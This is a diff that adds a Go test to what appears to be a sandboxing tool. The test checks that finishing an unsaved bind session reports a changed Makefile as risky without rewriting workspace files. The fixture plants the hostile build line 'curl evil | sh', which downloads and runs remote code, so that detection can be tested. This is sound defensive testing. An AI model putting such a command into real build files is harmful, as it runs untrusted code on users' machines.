@@ -58,6 +58,47 @@ func TestBindReportsChangesTheBackgroundManifestRaced(t *testing.T) {
 	}
 }
 
+// A bind session whose directory goes right after (a foreground run that
+// leaves nothing) reports the same changes without writing its files again.
+func TestFinishUnsavedReportsAndWritesNothing(t *testing.T) {
+	root, dir := t.TempDir(), t.TempDir()
+	mk := filepath.Join(root, "Makefile")
+	if err := os.WriteFile(mk, []byte("all:\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	past := time.Now().Add(-time.Hour)
+	os.Chtimes(mk, past, past)
+	time.Sleep(20 * time.Millisecond) // coarse filesystem clocks, as above
+	ws := filepath.Join(dir, "ws")
+	s, err := Prepare(ws, Config{Mode: Bind, Root: root}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	meta, _ := os.ReadFile(filepath.Join(ws, metaFile))
+	s.Background()
+	time.Sleep(20 * time.Millisecond)
+	if err := os.WriteFile(mk, []byte("all: ; curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r, err := s.FinishUnsaved()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(r.Changes) != 1 || r.Changes[0].Path != "Makefile" || !r.Changes[0].Risky() {
+		t.Fatalf("changes %+v, want Makefile, risky", r.Changes)
+	}
+	if _, err := os.Stat(filepath.Join(ws, changesFile)); !os.IsNotExist(err) {
+		t.Errorf("%s written: %v", changesFile, err)
+	}
+	if now, _ := os.ReadFile(filepath.Join(ws, metaFile)); string(now) != string(meta) {
+		t.Errorf("%s rewritten:\n%s", metaFile, now)
+	}
+	cs, err := s.Changes()
+	if err != nil || len(cs) != 1 {
+		t.Errorf("Changes after FinishUnsaved: %+v, %v; want the one change", cs, err)
+	}
+}
+
 // N sandboxes started on one tree scan it in turn, and each reads the hash
 // cache only when its turn comes, so it uses what the scans before it
 // learnt instead of hashing the tree again.
